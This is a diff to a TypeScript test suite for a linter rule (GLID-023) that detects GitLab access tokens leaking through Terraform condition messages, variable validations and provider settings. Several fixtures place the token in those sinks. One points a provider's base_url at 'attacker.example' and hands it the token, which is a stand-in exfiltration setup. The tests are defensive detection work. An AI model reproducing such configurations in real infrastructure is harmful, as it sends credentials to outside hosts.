@@ -17,7 +17,7 @@ const sinks = (parts: Record<string, unknown>, token?: Record<string, unknown>) 
 describe('GLID-023 in condition messages', () => {
   test('given a postcondition on the token itself whose message prints self.token, then GLID-023', () => {
     const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: 'debug: ${nonsensitive(self.token)}' }] } });
-    expect(sinks({}, token)).toEqual([expect.objectContaining({ level: 'error', address: 'gitlab_project_access_token.t', message: expect.stringContaining('lifecycle error_message') })]);
+    expect(sinks({}, token)).toEqual([expect.objectContaining({ level: 'error', address: 'gitlab_project_access_token.t', message: expect.stringContaining('lifecycle condition') })]);
   });
 
   test('given a precondition on another resource, written as one object rather than a list, then GLID-023', () => {
@@ -27,12 +27,24 @@ describe('GLID-023 in condition messages', () => {
 
   test('given an output precondition whose message prints the token, then GLID-023 on the output', () => {
     const output = { ok: { value: 'fine', precondition: [{ condition: '${true}', error_message: SECRET }] } };
-    expect(sinks({ output })).toEqual([expect.objectContaining({ address: 'output.ok', message: expect.stringContaining('precondition error_message') })]);
+    expect(sinks({ output })).toEqual([expect.objectContaining({ address: 'output.ok', message: expect.stringContaining('precondition') })]);
   });
 
   test('given condition messages that print only the expiry and the name, as the library\'s lapse check does, then nothing', () => {
     const token = compliantToken({ lifecycle: { postcondition: [{ condition: '${true}', error_message: '${self.name} expires at ${self.expires_at}' }] } });
     expect(sinks({ output: { ok: { value: 'x', precondition: [{ condition: '${true}', error_message: '${gitlab_project_access_token.t.id}' }] } } }, token)).toEqual([]);
+  });
+});
+
+describe('GLID-023 in what a failed condition prints', () => {
+  test('given a precondition whose condition refers to the token through a local, then GLID-023: the diagnostic prints the local', () => {
+    const other = { terraform_data: { x: { input: 'a', lifecycle: { precondition: [{ condition: '${local.t == "nope"}', error_message: 'fails' }] } } } };
+    expect(sinks({ resource: other, locals: { t: SECRET } })).toEqual([expect.objectContaining({ address: 'terraform_data.x' })]);
+  });
+
+  test('given a variable validation that prints the token, then GLID-023 on the variable', () => {
+    const variable = { v: { type: 'string', default: 'x', validation: [{ condition: '${var.v != ""}', error_message: `leak ${SECRET}` }] } };
+    expect(sinks({ variable })).toEqual([expect.objectContaining({ address: 'var.v' })]);
   });
 });
 
@@ -46,6 +58,16 @@ describe('GLID-023 in provider configurations', () => {
     const url = 'https://gitlab.example.com/api/v4';
     expect(sinks({ provider: { gitlab: [{ base_url: url }, { alias: 'bot', base_url: url, token: '${gitlab_project_access_token.t.token}' }] } })).toEqual([]);
     expect(sinks({ provider: { gitlab: [{ token: '${gitlab_project_access_token.t.token}' }] } })).toEqual([]);
+  });
+
+  test('given the default gitlab provider pointed elsewhere and a token minted through an alias, then GLID-023 on the default', () => {
+    const provider = { gitlab: [{ base_url: 'https://attacker.example/api/v4', token: '${gitlab_project_access_token.t.token}' }, { alias: 'real', base_url: 'https://gitlab.com/api/v4' }] };
+    expect(sinks({ provider }, compliantToken({ provider: 'gitlab.real' }))).toEqual([expect.objectContaining({ address: 'provider.gitlab' })]);
+  });
+
+  test('given the token in a gitlab provider\'s base_url, even the default one, then GLID-023', () => {
+    const provider = { gitlab: [{ base_url: `https://x.example/${SECRET}` }] };
+    expect(sinks({ provider })).toEqual([expect.objectContaining({ address: 'provider.gitlab', message: expect.stringContaining('base_url') })]);
   });
 
   test('given another provider type configured with the token, then GLID-023', () => {
